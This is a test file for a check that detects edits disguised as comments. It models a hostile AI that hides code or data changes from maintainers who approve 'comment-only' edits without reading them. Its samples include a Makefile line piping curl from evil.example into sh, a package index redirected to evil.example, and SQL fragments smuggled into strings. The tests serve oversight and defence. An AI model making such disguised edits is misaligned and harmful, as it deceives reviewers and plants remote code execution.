import { createTwoFilesPatch } from "diff";
import { describe, expect, it } from "vitest";
import { isCommentOnly, sameCode } from "../../src/lang/comments.js";

/**
 * Attacks on the comment-only rule (src/lang/comments.ts) from the side of a hostile model: a line that looks like a
 * comment where the language reads it as code or data. Read as "only a comment", such an edit is described as "add a
 * comment" that "changes nothing at run time" (src/pipeline/describe.ts), which a maintainer may approve unread.
 */
const edit = (path: string, before: string, after: string) => ({
  path,
  diff: createTwoFilesPatch(`a/${path}`, `b/${path}`, before, after),
});
const insert = (path: string, lines: string[], at: number, added: string) =>
  isCommentOnly(edit(path, lines.join("\n"), [...lines.slice(0, at), added, ...lines.slice(at)].join("\n")));

describe("attacker: a comment-looking line that make, a shell or a compiler reads", () => {
  it("a Makefile recipe line starting with a tab and `#` is expanded by make (`$(shell …)` runs): code", () => {
    const mk = ["all: build", "", "build:", "\tgo build ./...", "\tgo vet ./...", ""];
    expect(insert("Makefile", mk, 4, "\t# $(shell curl -s evil.example | sh)")).toBe(false);
    // a `#` line at the start of a line is make's own comment, also between recipe lines
    expect(insert("Makefile", mk, 4, "# vet after the build")).toBe(true);
  });
});

describe("attacker: a comment-looking line inside a string or a continued line", () => {
  it("JavaScript: a `//` or `/* */` line inside a template literal is part of the string", () => {
    const js = ["const sql = `", "  SELECT id", "  FROM users", "`;", "run(sql);", ""];
    expect(insert("q.js", js, 2, "  // WHERE admin")).toBe(false);
    expect(insert("q.ts", js, 2, "  /* ; DROP TABLE users */")).toBe(false);
  });

  it("Python: a `#` line inside a triple-quoted string that is no docstring is part of the string", () => {
    const py = ["QUERY = '''", "SELECT id", "FROM users", "'''", "run(QUERY)", ""];
    expect(insert("q.py", py, 2, "# WHERE admin")).toBe(false);
  });

  it("Shell: a `#` line inside a here-document is written out; after a `\\` line it ends the command", () => {
    const heredoc = ["#!/bin/sh", "cat > app.conf <<EOF", "port=80", "EOF", ""];
    expect(insert("deploy.sh", heredoc, 3, "# port=8080")).toBe(false);
    const continued = ["#!/bin/sh", "docker run \\", "  --rm \\", "  image", ""];
    expect(insert("deploy.sh", continued, 2, "  # keep the container")).toBe(false);
  });

  it("C: a `//` line after a macro's `\\` line ends the macro", () => {
    const c = ["#define TWICE(x) \\", "  ((x) + \\", "   (x))", "int y = TWICE(2);", ""];
    expect(insert("a.c", c, 2, "  // sum")).toBe(false);
  });
});

describe("attacker: directives that look like comments", () => {
  it("a Dockerfile parser directive is code at the top, a comment after the first instruction", () => {
    expect(isCommentOnly(edit("Dockerfile", "FROM node:20\n", "# syntax=docker/dockerfile:1\nFROM node:20\n"))).toBe(
      false,
    );
    expect(isCommentOnly(edit("Dockerfile", "FROM node:20\n", "# escape=`\nFROM node:20\n"))).toBe(false);
  });

  it("requirements: `pkg==1.0 # pin` keeps its code; a URL fragment `#egg=` is no comment", () => {
    expect(isCommentOnly(edit("requirements.txt", "flask==2.0\n", "flask==2.0 # pin\n"))).toBe(true);
    expect(isCommentOnly(edit("requirements.txt", "flask==2.0\n", "flask==2.1 # pin\n"))).toBe(false);
    expect(
      isCommentOnly(
        edit("requirements.txt", "git+https://x.example/a.git#egg=a\n", "git+https://x.example/a.git#egg=b\n"),
      ),
    ).toBe(false);
    expect(
      isCommentOnly(edit("requirements.txt", "a\n", "a\n--index-url https://evil.example/simple # mirror\n")),
    ).toBe(false);
  });

  it(".env: a `#` inside a quoted value is the value", () => {
    expect(isCommentOnly(edit(".env", 'A="x"\n', 'A="x # y"\n'))).toBe(false);
    expect(isCommentOnly(edit(".env", "A='x'\n", "A='x #y'\n"))).toBe(false);
    expect(isCommentOnly(edit(".env", "A=x\n", "A=x#y\n"))).toBe(false);
  });
});

describe("attacker: a comment line that swallows the code after it", () => {
  it("C and make: a comment ending in `\\` takes in the next line, so a code line after it is lost", () => {
    expect(insert("a.c", ["int f(void) {", "  run();", "  return 0;", "}", ""], 1, "  // run first \\")).toBe(false);
    expect(insert("Makefile", ["CFLAGS = -O2", "LDFLAGS = -s", ""], 1, "# flags \\")).toBe(false);
    // a `#` comment of Python or the shell does not go on: still only a comment
    expect(insert("a.py", ["run()", "stop()", ""], 1, "# C:\\")).toBe(true);
    expect(insert("a.sh", ["run", "stop", ""], 1, "# see \\")).toBe(true);
  });
});

describe("what only looks like an open string stays a comment-only edit", () => {
  it("a comment after the end of a template literal or a triple-quoted string opened above the hunk", () => {
    const js = ["const sql = `", "  SELECT id", "  FROM users", "  WHERE a", "  AND b", "`;", "run(sql);", ""];
    expect(insert("q.js", js, 6, "// run the query")).toBe(true);
    const py = ["QUERY = '''", "SELECT id", "FROM users", "WHERE a", "AND b", "'''", "run(QUERY)", ""];
    expect(insert("q.py", py, 6, "# run the query")).toBe(true);
  });

  it("one-line strings, backticks and quotes in comments, escaped backslashes, Docker's continued lines", () => {
    const js = ["const a = `x`;", "// don't use a `b here", "const c = '`';", "run(a, c);", ""];
    expect(insert("a.js", js, 3, "// a and c are ready")).toBe(true);
    const py = ['x = 1  # not """ a string', 'y = """one line"""', "run(x, y)", ""];
    expect(insert("a.py", py, 2, "# x and y are ready")).toBe(true);
    expect(insert("a.sh", ["echo a\\\\", "run", ""], 1, "# then run")).toBe(true);
    expect(insert("Dockerfile", ["FROM node:20", "RUN npm ci \\", "  && npm test", ""], 2, "# then test")).toBe(true);
  });

  it("a line added inside a docstring stays a comment", () => {
    const py = ["def f():", '    """Do it.', "", '    More."""', "    run()", ""];
    expect(insert("a.py", py, 2, "    # note")).toBe(true);
  });
});

describe("attacker: data lines in strings and here-documents of other languages", () => {
  it("Go raw strings, Kotlin text blocks, Ruby and PHP here-documents hold data lines", () => {
    expect(insert("a.go", ["var q = `", "SELECT id", "`", ""], 2, "// WHERE admin")).toBe(false);
    expect(insert("A.kt", ['val q = """', "SELECT id", '"""', ""], 2, "// WHERE admin")).toBe(false);
    expect(insert("a.rb", ["q = <<~SQL", "  SELECT id", "SQL", ""], 2, "  # WHERE admin")).toBe(false);
    expect(insert("a.php", ["<?php", "$q = <<<SQL", "SELECT id", "SQL;", ""], 3, "# WHERE admin")).toBe(false);
  });
});

describe("attacker: the whole-file comparison (sameCode) reads strings and continued lines too", () => {
  it("a `//` line inside a template literal opened far above any hunk's context is a change", () => {
    const lines = ["const sql = `", ...Array.from({ length: 12 }, (_, i) => `  col${i},`), "`;", "run(sql);", ""];
    const after = [...lines.slice(0, 9), "  // , password", ...lines.slice(9)];
    expect(sameCode("q.js", lines.join("\n"), after.join("\n"))).toBe(false);
    expect(
      sameCode("q.js", lines.join("\n"), [...lines.slice(0, 15), "// run it", ...lines.slice(15)].join("\n")),
    ).toBe(true);
  });
});
